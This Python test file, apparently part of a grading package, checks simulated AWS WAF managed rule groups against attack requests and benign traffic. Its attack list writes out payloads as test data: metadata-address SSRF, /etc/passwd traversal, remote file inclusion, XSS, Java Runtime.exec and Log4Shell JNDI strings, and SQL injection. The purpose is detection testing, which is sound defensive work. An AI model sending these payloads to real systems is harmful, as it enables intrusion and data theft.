"""The managed rule group models: does each rule fire on its attack, and stay quiet on ordinary
traffic?"""

from __future__ import annotations

from dataclasses import replace
from urllib.parse import quote

import pytest

from grader.aws.waf import botcontrol
from grader.aws.waf.managed import (
    CORE_RULE_SET,
    GROUP_CAPACITY,
    GROUP_LABEL_NAMESPACES,
    GROUP_LABELS,
    GROUP_RULES,
    IP_REPUTATION,
    KNOWN_BAD_INPUTS,
    MANAGED_GROUPS,
    SQL_DATABASE,
    VENDOR,
    managed_groups,
)
from grader.aws.waf.request import WafRequest

CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36"
)
BROWSER_HEADERS = (
    ("Host", "shop.example.com"),
    ("User-Agent", CHROME),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    ("Accept-Language", "en-US,en;q=0.9"),
    ("Accept-Encoding", "gzip, deflate, br"),
    ("Cookie", "session=3f9a1c; theme=dark; consent=yes"),
)
HOME_IP = "198.51.100.7"


def req(
    uri: str = "/",
    args: str = "",
    *,
    method: str = "GET",
    body: bytes = b"",
    headers: tuple[tuple[str, str], ...] = BROWSER_HEADERS,
    ip: str = HOME_IP,
) -> WafRequest:
    return WafRequest(client_ip=ip, uri=uri, args=args, method=method, body=body, headers=headers)


def with_header(name: str, value: str) -> tuple[tuple[str, str], ...]:
    return tuple(h for h in BROWSER_HEADERS if h[0].lower() != name.lower()) + ((name, value),)


def hits(group: str, request: WafRequest) -> list[str]:
    return [h.name for h in MANAGED_GROUPS[(VENDOR, group)](request, {}).hits]


JSON = (("Content-Type", "application/json"),)

# Every modelled rule with an attack it must catch: (group, rule, request).
ATTACKS = [
    (CORE_RULE_SET, "NoUserAgent_HEADER",
     req(headers=tuple(h for h in BROWSER_HEADERS if h[0] != "User-Agent"))),
    (CORE_RULE_SET, "UserAgent_BadBots_HEADER",
     req(headers=with_header("User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine)"))),
    (CORE_RULE_SET, "SizeRestrictions_QUERYSTRING", req("/search", "q=" + "a" * 2047)),
    (CORE_RULE_SET, "SizeRestrictions_Cookie_HEADER",
     req(headers=with_header("Cookie", "big=" + "x" * 10237))),
    (CORE_RULE_SET, "SizeRestrictions_BODY", req("/upload", method="POST", body=b"x" * 8193)),
    (CORE_RULE_SET, "SizeRestrictions_URIPATH", req("/" + "a" * 1024)),
    (CORE_RULE_SET, "EC2MetaDataSSRF_BODY",
     req("/webhook", method="POST", body=b'{"callback": "http://169.254.169.254/latest/"}')),
    (CORE_RULE_SET, "EC2MetaDataSSRF_COOKIE",
     req(headers=with_header("Cookie", "next=http%3A%2F%2F169.254.169.254%2Flatest"))),
    (CORE_RULE_SET, "EC2MetaDataSSRF_URIPATH", req("/proxy/169.254.169.254/latest/meta-data")),
    (CORE_RULE_SET, "EC2MetaDataSSRF_QUERYARGUMENTS", req("/fetch", "url=http://[fd00:ec2::254]/")),
    (CORE_RULE_SET, "GenericLFI_QUERYARGUMENTS", req("/download", "file=../../../../etc/passwd")),
    (CORE_RULE_SET, "GenericLFI_URIPATH", req("/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd")),
    (CORE_RULE_SET, "GenericLFI_BODY",
     req("/render", method="POST", body=b"template=..%2F..%2F..%2Fapp%2Fconfig")),
    (CORE_RULE_SET, "RestrictedExtensions_URIPATH", req("/logs/app.log")),
    (CORE_RULE_SET, "RestrictedExtensions_QUERYARGUMENTS", req("/view", "file=php.ini")),
    (CORE_RULE_SET, "GenericRFI_QUERYARGUMENTS", req("/page", "inc=http://203.0.113.9/sh.txt")),
    (CORE_RULE_SET, "GenericRFI_BODY",
     req("/import", method="POST", body=b"source=ftp://192.0.2.77/payload")),
    (CORE_RULE_SET, "GenericRFI_URIPATH", req("/go/http://198.51.100.200/x")),
    (CORE_RULE_SET, "CrossSiteScripting_COOKIE",
     req(headers=with_header("Cookie", "name=%3Cscript%3Ealert(1)%3C%2Fscript%3E"))),
    (CORE_RULE_SET, "CrossSiteScripting_QUERYARGUMENTS",
     req("/search", "q=" + quote('<script>alert("hello")</script>'))),
    (CORE_RULE_SET, "CrossSiteScripting_BODY",
     req("/comment", method="POST", body=b'text=<img src=x onerror="alert(1)">')),
    (CORE_RULE_SET, "CrossSiteScripting_URIPATH", req("/p/%3Csvg%2Fonload%3Dalert(1)%3E")),
    (KNOWN_BAD_INPUTS, "JavaDeserializationRCE_HEADER",
     req(headers=with_header("spring.cloud.function.routing-expression",
                             'T(java.lang.Runtime).getRuntime().exec("whoami")'))),
    (KNOWN_BAD_INPUTS, "JavaDeserializationRCE_BODY",
     req("/", method="POST", body=b"class.module.classLoader.resources.context.parent=x")),
    (KNOWN_BAD_INPUTS, "JavaDeserializationRCE_URIPATH",
     req("/(java.lang.Runtime).getRuntime().exec(%22id%22)")),
    (KNOWN_BAD_INPUTS, "JavaDeserializationRCE_QUERYSTRING",
     req("/", "x=(java.lang.Runtime).getRuntime().exec(%22whoami%22)")),
    (KNOWN_BAD_INPUTS, "Host_localhost_HEADER", req(headers=with_header("Host", "localhost:8080"))),
    (KNOWN_BAD_INPUTS, "PROPFIND_METHOD", req("/files/", method="PROPFIND")),
    (KNOWN_BAD_INPUTS, "ExploitablePaths_URIPATH", req("/app/WEB-INF/web.xml")),
    (KNOWN_BAD_INPUTS, "Log4JRCE_HEADER",
     req(headers=with_header("X-Api-Version", "${jndi:ldap://example.com/a}"))),
    (KNOWN_BAD_INPUTS, "Log4JRCE_QUERYSTRING",
     req("/", "q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fexample.com%2F%7D")),
    (KNOWN_BAD_INPUTS, "Log4JRCE_BODY",
     req("/", method="POST", body=b'{"name": "${${::-j}${::-n}di:rmi://example.com/x}"}')),
    (KNOWN_BAD_INPUTS, "Log4JRCE_URIPATH", req("/${jndi:dns://example.com/}")),
    (SQL_DATABASE, "SQLi_QUERYARGUMENTS", req("/item", "id=1%27%20OR%20%271%27%3D%271")),
    (SQL_DATABASE, "SQLiExtendedPatterns_QUERYARGUMENTS", req("/item", "id=1 AND SLEEP(5)")),
    (SQL_DATABASE, "SQLi_BODY",
     req("/login", method="POST", body=b'{"username": "admin\'--", "password": "x"}',
         headers=BROWSER_HEADERS + JSON)),
    (SQL_DATABASE, "SQLiExtendedPatterns_BODY",
     req("/report", method="POST", body=b"q=1 union/**/select table_name from information_schema.tables")),
    (SQL_DATABASE, "SQLi_COOKIE",
     req(headers=with_header("Cookie", "id=1 UNION SELECT username, password FROM users"))),
    (IP_REPUTATION, "AWSManagedIPReputationList", req(ip="192.0.2.70")),
    (IP_REPUTATION, "AWSManagedReconnaissanceList", req(ip="192.0.2.130")),
    (IP_REPUTATION, "AWSManagedIPDDoSList", req(ip="2001:db8:dd05::1")),
]  # fmt: skip


@pytest.mark.parametrize(("group", "rule", "request_"), ATTACKS, ids=[a[1] for a in ATTACKS])
def test_does_each_rule_fire_on_its_attack(group, rule, request_):
    outcome = MANAGED_GROUPS[(VENDOR, group)](request_, {})
    hit = next((h for h in outcome.hits if h.name == rule), None)
    assert hit is not None, f"{rule} did not match; hits: {[h.name for h in outcome.hits]}"
    assert hit.action == dict(GROUP_RULES[(VENDOR, group)])[rule]
    assert len(hit.labels) == 1 and hit.labels[0] in GROUP_LABELS[(VENDOR, group)]


def test_does_every_modelled_rule_have_an_attack_above():
    for group in (CORE_RULE_SET, KNOWN_BAD_INPUTS, SQL_DATABASE, IP_REPUTATION):
        attacked = {rule for g, rule, _ in ATTACKS if g == group}
        assert attacked == {name for name, _ in GROUP_RULES[(VENDOR, group)]}


# Ordinary traffic that no group may match.
ORDINARY = [
    req("/"),
    req("/products/running-shoes", "size=42&color=blue&sort=price_asc"),
    req("/static/css/site.css"),
    req("/images/logo.png"),
    req("/login", method="POST", headers=BROWSER_HEADERS + JSON,
        body=b'{"username": "alice@example.com", "password": "correct horse battery staple!"}'),
    req("/search", "q=" + quote('it\'s "the best" pizza in town - rock \'n\' roll and jazz')),
    req("/search", "q=" + quote("what's the difference between 'and' and 'or' in English?")),
    req("/search", "q=" + quote("O'Reilly books on SQL: select, union and join explained")),
    req("/search", "q=" + quote("is javascript: a good first language? 5 > 3 & 2 < 4")),
    req("/docs/guide", "ref=../intro"),
    req("/api/orders", "page=2&per_page=50", headers=BROWSER_HEADERS + JSON),
    req("/checkout", method="POST", body=b"item=42&qty=1&note=Leave+at+the+door%2C+thanks%21"),
    req("/redirect", "next=https://shop.example.com/account"),
    req("/", headers=with_header("Host", "localhost.example.com")),
]  # fmt: skip


@pytest.mark.parametrize(
    "request_", ORDINARY, ids=[f"{r.method} {r.uri}?{r.args}" for r in ORDINARY]
)
def test_does_ordinary_traffic_match_nothing(request_):
    for key, model in MANAGED_GROUPS.items():
        configs = [{}]
        if key[1] == botcontrol.NAME:
            configs.append({botcontrol.NAME: {"InspectionLevel": "TARGETED"}})
            token = (("Cookie", "aws-waf-token=t"),)
            request_ = replace(request_, headers=request_.headers + token)
        for config in configs:
            assert model(request_, config).hits == (), key


# --- near misses: one step short of each limit or pattern ---------------------------------


def test_are_size_limits_exclusive():
    at_limit = [
        req("/search", "q=" + "a" * 2046),  # 2048 bytes
        req(headers=with_header("Cookie", "big=" + "x" * 10236)),  # 10240 bytes
        req("/upload", method="POST", body=b"x" * 8192),
        req("/" + "a" * 1023),  # 1024 bytes
    ]
    for request_ in at_limit:
        assert not [n for n in hits(CORE_RULE_SET, request_) if n.startswith("Size")]


def test_is_one_parent_directory_not_path_traversal():
    assert hits(CORE_RULE_SET, req("/docs", "back=../index")) == []
    assert "GenericLFI_QUERYARGUMENTS" in hits(CORE_RULE_SET, req("/docs", "back=../../index"))


def test_does_a_url_need_a_numeric_host_to_be_remote_file_inclusion():
    assert hits(CORE_RULE_SET, req("/page", "inc=http://cdn.example.com/a.txt")) == []


def test_is_a_time_delay_extended_but_not_basic_sql_injection():
    request_ = req("/item", "id=1;waitfor delay '0:0:5'")
    assert hits(SQL_DATABASE, request_) == ["SQLiExtendedPatterns_QUERYARGUMENTS"]


def test_is_the_sql_tautology_caught_through_double_url_encoding():
    request_ = req("/item", "id=1%2527%2520or%2520%25271%2527%253D%25271")
    assert "SQLi_QUERYARGUMENTS" in hits(SQL_DATABASE, request_)


def test_is_only_the_first_8_kb_of_a_body_inspected():
    padded = b"x" * 8192 + b"<script>alert(1)</script>"
    assert hits(CORE_RULE_SET, req("/c", method="POST", body=padded)) == ["SizeRestrictions_BODY"]


def test_is_localhost_matched_only_as_the_whole_host():
    assert hits(KNOWN_BAD_INPUTS, req(headers=with_header("Host", "LOCALHOST"))) == [
        "Host_localhost_HEADER"
    ]
    assert hits(KNOWN_BAD_INPUTS, req(headers=with_header("Host", "mylocalhost.dev"))) == []


def test_does_the_ddos_list_only_count():
    outcome = MANAGED_GROUPS[(VENDOR, IP_REPUTATION)](req(ip="192.0.2.200"), {})
    assert [(h.name, h.action) for h in outcome.hits] == [("AWSManagedIPDDoSList", "Count")]


def test_are_hits_in_rule_order():
    request_ = req("/%2e%2e/%2e%2e/x.log", "u=http://169.254.169.254/")
    names = hits(CORE_RULE_SET, request_)
    order = [n for n, _ in GROUP_RULES[(VENDOR, CORE_RULE_SET)]]
    assert names == sorted(names, key=order.index) and len(names) >= 3


# --- the registry and its data ------------------------------------------------------------


def test_does_the_registry_hold_the_five_groups_with_their_documented_capacity():
    assert set(MANAGED_GROUPS) == set(GROUP_CAPACITY) == set(GROUP_LABEL_NAMESPACES)
    assert GROUP_CAPACITY[(VENDOR, CORE_RULE_SET)] == 700
    assert GROUP_CAPACITY[(VENDOR, KNOWN_BAD_INPUTS)] == 200
    assert GROUP_CAPACITY[(VENDOR, SQL_DATABASE)] == 200
    assert GROUP_CAPACITY[(VENDOR, IP_REPUTATION)] == 25
    assert GROUP_CAPACITY[(VENDOR, botcontrol.NAME)] == 50


def test_does_every_label_sit_in_its_groups_namespace():
    for key, labels in GROUP_LABELS.items():
        assert labels and all(label.startswith(GROUP_LABEL_NAMESPACES[key]) for label in labels)


def test_does_each_fresh_registry_get_its_own_bot_control_memory():
    first, second = managed_groups(), managed_groups()
    key = (VENDOR, botcontrol.NAME)
    assert isinstance(first[key], botcontrol.BotControl)
    assert first[key] is not second[key]
    targeted = {botcontrol.NAME: {"InspectionLevel": "TARGETED"}}
    for _ in range(botcontrol.TOKEN_ABSENT_PER_IP):
        outcome = first[key](req(), targeted)
    assert "TGT_VolumetricIpTokenAbsent" in [h.name for h in outcome.hits]
    assert "TGT_VolumetricIpTokenAbsent" not in [h.name for h in second[key](req(), targeted).hits]
